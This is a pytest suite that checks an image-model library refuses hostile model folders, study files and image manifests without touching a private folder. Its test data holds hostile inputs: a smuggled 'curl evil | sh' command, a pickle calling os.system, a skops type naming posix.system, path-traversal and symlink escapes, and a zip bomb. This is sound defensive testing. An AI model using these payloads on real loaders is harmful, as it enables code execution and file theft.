"""Hostile files: each is refused with a message of its own, and no file outside of its folder is opened."""

import io
import json
import os
import shutil
import struct
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from autotl.backbones.timm import TimmBackbone
from autotl.config import find_study, load_study_file
from autotl.coordinator.setup import kept_config
from autotl.data.loading import load_dataset
from autotl.data.sources import FolderSource, ManifestSource
from autotl.errors import AutotlError
from autotl.model.image_model import ImageModel, load
from autotl.model.member import Member
from autotl.recipe import Recipe
from autotl.registry import load_registry
from autotl.strategies.base import Fitted

WATCHED: dict[str, Any] = {"folder": None, "opened": []}


def _watch(event: str, details: tuple[Any, ...]) -> None:
    if event in ("open", "os.remove", "os.rename", "os.mkdir", "shutil.rmtree") and WATCHED["folder"]:
        path = os.fsdecode(details[0]) if isinstance(details[0], str | bytes) else ""
        if os.path.realpath(path).startswith(WATCHED["folder"]):
            WATCHED["opened"].append((event, path))


sys.addaudithook(_watch)  # can't be removed; does nothing while no folder is watched


@pytest.fixture
def secret(tmp_path: Path) -> Iterator[Path]:
    """The user's private folder beside the hostile files. None of its files may be opened or changed."""
    folder = tmp_path / "private"
    folder.mkdir()
    (folder / "secret.json").write_text('{"format": 3, "password": "hunter2"}')
    (folder / "secret.png").write_bytes(b"\x89PNG")
    before = {path: path.read_bytes() for path in folder.iterdir()}
    WATCHED.update(folder=os.path.realpath(folder), opened=[])
    yield folder
    WATCHED["folder"] = None
    assert WATCHED["opened"] == []
    assert {path: path.read_bytes() for path in folder.iterdir()} == before


def edit(file: Path, key: str, value: Any) -> None:
    """Set one value of a JSON file; `key` is like `recipe.head_params.width`."""
    content = json.loads(file.read_text())
    *parents, last = key.split(".")
    inner = content
    for parent in parents:
        inner = inner[int(parent)] if isinstance(inner, list) else inner[parent]
    inner[int(last) if isinstance(inner, list) else last] = value
    file.write_text(json.dumps(content))


def test_an_opened_private_file_is_recorded(secret: Path) -> None:
    (secret / "secret.json").read_text()
    assert [event for event, _ in WATCHED["opened"]] == ["open"]
    WATCHED["opened"] = []


# --- model folders


@pytest.fixture(scope="module")
def valid_model(tiny, tmp_path_factory) -> Path:
    """A valid model of two members: one with a dense head and fine-tuned blocks, one with an estimator."""
    registry = load_registry(without=["engines.openvino"])
    backbone = tiny("test_resnet")
    module = backbone.build()
    tuned = {name: tensor for name, tensor in module.state_dict().items() if name.startswith("stages.3")}
    width = module.num_features
    dense = registry.head("mlp")
    rng = np.random.default_rng(0)
    estimator = registry.head("logistic_regression").build(registry.head("logistic_regression").defaults(), width, 2, 0)
    estimator.fit(rng.standard_normal((20, width)).astype(np.float32), np.arange(20) % 2)
    members = [
        Member(
            Recipe(backbone.name, "fine_tuning", "mlp", 1, {}, dense.defaults()),
            Fitted("last", dense.build(dense.defaults(), width, 2, 0), tuned),
            backbone.digest,
            2,
            trial=0,
        ),
        Member(
            Recipe(backbone.name, "fast_extraction", "logistic_regression", 1, {}, {}),
            Fitted("last", estimator),
            backbone.digest,
            2,
            trial=1,
        ),
    ]
    model = ImageModel(("ants", "bees"), members, {backbone.digest: backbone}, registry=registry)
    return model.save(tmp_path_factory.mktemp("valid") / "model")


@pytest.fixture
def model(valid_model: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(valid_model, tmp_path / "model"))


def huge_tensor(file: Path, size_of_header: int | None = None) -> None:
    """Write a safetensors file whose header states a terabyte."""
    header = json.dumps({"weight": {"dtype": "F32", "shape": [1 << 38], "data_offsets": [0, 1 << 40]}}).encode()
    file.write_bytes(struct.pack("<Q", size_of_header or len(header)) + header + b"\0" * 64)


def bomb(file: Path) -> None:
    """Make a skops file of some kilobytes unpack to 64 MB."""
    with zipfile.ZipFile(io.BytesIO(file.read_bytes())) as valid:
        parts = {name: valid.read(name) for name in valid.namelist()}
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
        packed.writestr("zeros.npy", b"\0" * (64 << 20))


def foreign_type(file: Path) -> None:
    """Write a skops file that would call os.system."""
    schema = {
        "__class__": "system", "__module__": "posix", "__loader__": "FunctionNode", "content": "posix.system",
        "__id__": 1, "protocol": 2, "_skops_version": "0.14",
    }  # fmt: skip
    with zipfile.ZipFile(file, "w") as packed:
        packed.writestr("schema.json", json.dumps(schema))


def pickled(file: Path) -> None:
    """Write a pickle in place of a skops file; loading it would create a file."""
    file.write_bytes(b"cos\nsystem\n(S'touch /tmp/autotl-was-here'\ntR.")


def manifest_of(model: Path) -> Path:
    return model / "model.json"


def member_of(model: Path, number: int = 0) -> Path:
    return model / "members" / str(number) / "member.json"


def linked(path: Path, to: Path) -> None:
    if path.is_dir():
        shutil.rmtree(path)
    else:
        path.unlink()
    path.symlink_to(to)


PLUGIN = {"component": "backbone", "name": "x", "plugin": "mars", "distribution": "mars-parts", "version": "1"}
HOSTILE_MODELS: dict[str, tuple[Callable[[Path, Path], Any], str]] = {
    # what is changed in a valid model, given its folder and the private one; and the message
    "a digest that leads out": (
        lambda m, p: edit(manifest_of(m), "backbones.0.digest", "../../private"),
        r"model\.json is damaged or was made by hand: backbones\.0\.digest",
    ),
    "an absolute digest": (
        lambda m, p: edit(manifest_of(m), "backbones.0.digest", f"{p}/secret"),
        r"backbones\.0\.digest = '/.*: String should match pattern",
    ),
    "a backbone in a private folder": (
        lambda m, p: edit(manifest_of(m), "backbones.0.name", f"local-dir:{p}"),
        r"backbones/[0-9a-f]{16}' is not a timm model folder",
    ),
    "a backbone from the network": (
        lambda m, p: edit(manifest_of(m), "backbones.0.name", "hf-hub:evil/net"),
        r"There is no backbone named 'hf-hub:evil/net'",
    ),
    "a plugin's backbone in a private folder": (
        lambda m, p: edit(manifest_of(m), "plugins", [{**PLUGIN, "name": f"local-dir:{p}"}]),
        r"lists 'local-dir:.*' as the backbone of a plugin: it was made by hand",
    ),
    "a command for the user to type": (
        lambda m, p: edit(manifest_of(m), "plugins", [{**PLUGIN, "version": "1; curl evil | sh"}]),
        r"plugins\.0\.version = '1; curl evil \| sh'",
    ),
    "the manifest is a link out": (lambda m, p: linked(manifest_of(m), p / "secret.json"), r"link that leads out of"),
    "a member is a link out": (lambda m, p: linked(m / "members" / "0", p), r"members/0 is a link that leads out of"),
    "weights are a link out": (
        lambda m, p: linked(next((m / "backbones").glob("*.safetensors")), p / "secret.json"),
        r"\.safetensors is a link that leads out of .*, to .*private/secret\.json",
    ),
    "a link up and down again": (
        lambda m, p: (m / "more").symlink_to(Path("..") / "private"),
        r"more is a link that leads out of",
    ),
    "a pipe that never ends": (
        lambda m, p: (member_of(m).unlink(), os.mkfifo(member_of(m))),
        r"member\.json is neither a file nor a folder",
    ),
    "a newer format": (
        lambda m, p: (
            edit(manifest_of(m), "format", 7),
            edit(manifest_of(m), "about", {"versions": {"autotl": "3.2"}}),
        ),
        r"model format 7, and this autotl reads format 3\. Use the autotl that wrote it: autotl 3\.2\.",
    ),
    "an unknown format": (
        lambda m, p: manifest_of(m).write_text('{"format": "x", "about": [1]}'),
        r"model format 'x', and this autotl reads format 3\. Use the autotl that wrote it: an unknown version\.",
    ),
    "a manifest nested too deep": (
        lambda m, p: manifest_of(m).write_text("[" * 200_000),
        r"model\.json is not JSON: it is nested too deep",
    ),
    "a manifest without an end": (
        lambda m, p: manifest_of(m).write_bytes(b" " * ((64 << 20) + 1)),
        r"model\.json is not JSON: it has more than",
    ),
    "a billion members": (
        lambda m, p: edit(manifest_of(m), "members", 10**9),
        r"members = 1000000000: Input should be less",
    ),
    "no members": (lambda m, p: edit(manifest_of(m), "members", 0), r"members = 0: Input should be greater"),
    "members as text": (
        lambda m, p: edit(manifest_of(m), "members", "2"),
        r"members = '2': Input should be a valid integer",
    ),
    "a class twice": (lambda m, p: edit(manifest_of(m), "classes", ["a", "a"]), r"a class is duplicated"),
    "more classes than its members have": (
        lambda m, p: edit(manifest_of(m), "classes", ["a", "b", "c"]),
        r"member 0 belongs to another one",
    ),
    "a member of another backbone": (
        lambda m, p: edit(member_of(m), "backbone_digest", "ab" * 16),
        r"member 0 belongs to another one",
    ),
    "a weight that isn't finite": (
        lambda m, p: member_of(m).write_text(member_of(m).read_text().replace('"weight": 1.0', '"weight": NaN')),
        r"weight = nan: Input should be a finite number",
    ),
    "a temperature of zero": (lambda m, p: edit(member_of(m), "temperature", 0.0), r"temperature = 0\.0"),
    "weights of zero": (
        lambda m, p: [edit(member_of(m, i), "weight", 0.0) for i in (0, 1)],
        r"the weight of each member is 0",
    ),
    "levels that are a path": (
        lambda m, p: edit(member_of(m), "levels", "../../private"),
        r"levels = '\.\./\.\./private'",
    ),
    "a recipe of lists": (lambda m, p: edit(member_of(m), "recipe", [1, 2]), r"recipe = \[1, 2\]"),
    "a recipe with an unknown key": (
        lambda m, p: edit(member_of(m), "recipe.callback", "os.system"),
        r"recipe\.callback = 'os\.system': Extra inputs",
    ),
    "a head of terabytes": (
        lambda m, p: edit(member_of(m), "recipe.head_params.width", 10**12),
        r"is not the head that its model describes: width is 1,000,000,000,000",
    ),
    "too many features": (
        lambda m, p: edit(member_of(m), "num_features", 10**15),
        r"num_features is 1,000,000,000,000,000",
    ),
    "a head of other features": (lambda m, p: edit(member_of(m, 1), "num_features", 7), r"a classifier of 7 features"),
    "an unknown head parameter": (
        lambda m, p: edit(member_of(m), "recipe.head_params.callback", "os.system"),
        r"is not the head that its model describes: TypeError",
    ),
    "a tensor larger than its file": (
        lambda m, p: huge_tensor(m / "members" / "0" / "head.safetensors"),
        r"head\.safetensors is damaged",
    ),
    "a header larger than its file": (
        lambda m, p: huge_tensor(m / "members" / "0" / "backbone_state.safetensors", 1 << 60),
        r"backbone_state\.safetensors is damaged",
    ),
    "a pickle for an estimator": (
        lambda m, p: pickled(m / "members" / "1" / "head.skops"),
        r"head\.skops is damaged",
    ),
    "a function for an estimator": (
        lambda m, p: foreign_type(m / "members" / "1" / "head.skops"),
        r"contains types that head 'logistic_regression' doesn't trust, so it isn't loaded: posix\.system",
    ),
    "an estimator that unpacks without end": (
        lambda m, p: bomb(m / "members" / "1" / "head.skops"),
        r"its parts state [\d,]+ bytes, more than the file's",
    ),
}


@pytest.mark.parametrize("name", HOSTILE_MODELS)
def test_a_hostile_model_folder_is_refused(name: str, model: Path, secret: Path) -> None:
    change, message = HOSTILE_MODELS[name]
    folder, WATCHED["folder"] = WATCHED["folder"], None  # the test itself may open private files here
    change(model, secret)
    WATCHED["folder"] = folder
    with pytest.raises(AutotlError, match=message):
        load(model, registry=load_registry(without=["engines.openvino"]))
    assert not Path("/tmp/autotl-was-here").exists()


def test_the_unchanged_model_is_accepted(model: Path, cells: Path) -> None:
    paths = sorted(cells.glob("*/*"))[:3]
    assert load(model, registry=load_registry(without=["engines.openvino"])).predict_proba(paths).shape == (3, 2)


def test_weights_outside_of_the_model_folder_are_not_read(model: Path, secret: Path, cells: Path) -> None:
    """The name of a backbone may contain a file, but the weights come from the model folder."""
    edit(manifest_of(model), "backbones.0.name", f"test_resnet@{secret / 'secret.json'}")
    loaded = load(model, registry=load_registry(without=["engines.openvino"]))
    assert loaded.predict_proba(sorted(cells.glob("*/*"))[:1]).shape == (1, 2)


def test_a_network_of_gigabytes_is_refused_before_it_is_built(model: Path, cells: Path, monkeypatch) -> None:
    edit(manifest_of(model), "backbones.0.name", "vit_giant_patch14_224")  # a billion parameters
    for i in (0, 1):
        edit(member_of(model, i), "recipe.backbone", "vit_giant_patch14_224")
    loaded = load(model, registry=load_registry(without=["engines.openvino"]))
    built = []
    build = TimmBackbone.build
    monkeypatch.setattr(TimmBackbone, "build", lambda *args, **more: built.append(build(*args, **more)) or built[-1])
    with pytest.raises(AutotlError, match=r"doesn't hold the weights of vit_giant_patch14_224: it is too small"):
        loaded.predict_proba(sorted(cells.glob("*/*"))[:1])
    assert [{p.device.type for p in module.parameters()} for module in built] == [{"meta"}]


# --- study files

HOSTILE_STUDIES: dict[str, tuple[str, str]] = {
    "absolute data": ('data = "{private}"', r"line 1: data = '/.*private' leads out .*: --data /"),
    "data above": ('data = "../private"', r"line 1: data = '\.\./private' leads out"),
    "data at home": ('data = "~root"', r"data = '~root' leads out"),
    "data behind a link": ('data = "link"', r"data = 'link' leads out of .*, to .*private"),
    "test images elsewhere": ('data = "x"\ntest = "../private"', r"line 2: test = .* leads out .*: --test"),
    "a study written elsewhere": ('data = "x"\noutput = "{private}"', r"line 2: output = .* leads out .*: --output"),
    "a cache elsewhere": ('data = "x"\ncache = "../private"', r"line 2: cache = .* leads out .*: --cache"),
    "a cache behind a link": ('data = "x"\ncache = "link/cache"', r"cache = 'link/cache' leads out"),
    "weights elsewhere": (
        'data = "x"\nbackbones = ["resnet18@{private}/secret.json"]',
        r"line 2: backbones = '/.*secret\.json' leads out .*: --backbone",
    ),
    "a backbone's folder elsewhere": (
        'data = "x"\nbackbones = "local-dir:../private"',
        r"backbones = '\.\./private' leads",
    ),
    "a name that is a path": ('data = "x"\nname = "../../private"', r"name = \"\.\./\.\./private\" is invalid"),
    "an absolute name": ('data = "x"\nname = "/tmp/x"', r"name = \"/tmp/x\" is invalid"),
    "a path with a NUL": ('data = "a\\u0000b"', r"data = 'a\\x00b' is not a path"),
    "tables without end": ("x = " + "[" * 100_000, r"can't be read as TOML: it is nested too deep"),
    "a file without end": ("#" * 1_000_001, r"can't be read as TOML: it has more than 1,000,000 bytes"),
    "an unknown key": ('data = "x"\nplugin = "evil"', r"line 2: unknown key 'plugin'"),
    "bytes that are not text": ("\udcff\udcfe", r"can't be read as TOML: 'utf-8' codec can't decode"),
}


@pytest.mark.parametrize("name", HOSTILE_STUDIES)
def test_a_hostile_study_file_is_refused(
    name: str, secret: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text, message = HOSTILE_STUDIES[name]
    folder = tmp_path / "here"
    folder.mkdir()
    (folder / "link").symlink_to(secret)
    monkeypatch.chdir(folder)
    (folder / "study.toml").write_bytes(text.replace("{private}", str(secret)).encode(errors="surrogateescape"))
    with pytest.raises(AutotlError, match=message):
        load_study_file(folder / "study.toml")


def test_an_override_may_name_any_place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    (tmp_path / "here" / "study.toml").write_text('data = "/etc"\ncache = "/var"\n')
    config = load_study_file("study.toml", data=str(tmp_path), cache=tmp_path / "cache")
    assert (config.data, config.cache) == (str(tmp_path), tmp_path / "cache")


# --- manifests

HOSTILE_MANIFESTS: dict[str, tuple[str, str]] = {
    "an absolute path": ("{private}/secret.png,a", r"line 2: /.*secret\.png is absolute"),
    "a path above": ("../private/secret.png,a", r"line 2: \.\./private/secret\.png leaves the manifest's folder"),
    "a path down and above": ("sub/../../private/secret.png,a", r"leaves the manifest's folder"),
    "a linked file": ("link.png,a", r"line 2: link\.png leaves the manifest's folder"),
    "a linked folder": ("linked/secret.png,a", r"line 2: linked/secret\.png leaves the manifest's folder"),
    "a drive": (r"C:\secret.png,a", r"is absolute"),
    "a share": (r"\\host\share\secret.png,a", r"is absolute"),
    "a root of another system": (r"\secret.png,a", r"is absolute"),
    "the folder above": ("..,a", r"leaves the manifest's folder"),
    "a path with a NUL": ("a\0b.png,a", r"NUL"),
    "a value without end": (f"{'a' * 200_000},a", r"invalid CSV: field larger than field limit"),
    "quotes without end": ('"a.png,a\n' * 3, r"invalid CSV"),
    "a value without a column": ("a.png,a,__class__", r"3 values for 2 columns"),
}


@pytest.mark.parametrize("name", HOSTILE_MANIFESTS)
def test_a_hostile_manifest_is_refused(name: str, secret: Path, tmp_path: Path) -> None:
    row, message = HOSTILE_MANIFESTS[name]
    folder = tmp_path / "images"
    (folder / "sub").mkdir(parents=True)
    (folder / "link.png").symlink_to(secret / "secret.png")
    (folder / "linked").symlink_to(secret)
    (folder / "images.csv").write_text("path,label\n" + row.replace("{private}", str(secret)))
    location = str(folder / "images.csv")
    with pytest.raises(AutotlError, match=message):
        load_dataset(location, {"manifest": ManifestSource(), "folder": FolderSource()}, confined=[location])


# --- studies

HOSTILE_FOLDERS: dict[str, tuple[Callable[[Path, Path], Any], str]] = {
    "the journal is a link out": (lambda s, p: linked(s / "journal.log", p / "secret.json"), r"link that leads out of"),
    "its trials are a link out": (lambda s, p: (s / "trials").symlink_to(p), r"trials is a link that leads out of"),
    "its cache is a link out": (lambda s, p: (s / "cache").symlink_to(p), r"cache is a link that leads out of"),
    "a key of another version": (
        lambda s, p: (s / "study.json").write_text('{"data": "x", "teleport": true}'),
        r"study\.json can't be read by autotl .*teleport.*Use the autotl that wrote it",
    ),
    "a list instead of a config": (lambda s, p: (s / "study.json").write_text("[]"), r"study\.json can't be read"),
}


@pytest.mark.parametrize("name", HOSTILE_FOLDERS)
def test_a_hostile_study_is_refused(name: str, secret: Path, tmp_path: Path) -> None:
    change, message = HOSTILE_FOLDERS[name]
    study = tmp_path / "studies" / "x"
    study.mkdir(parents=True)
    (study / "journal.log").touch()
    change(study, secret)
    with pytest.raises(AutotlError, match=message):
        kept_config(find_study("x", tmp_path / "studies"))
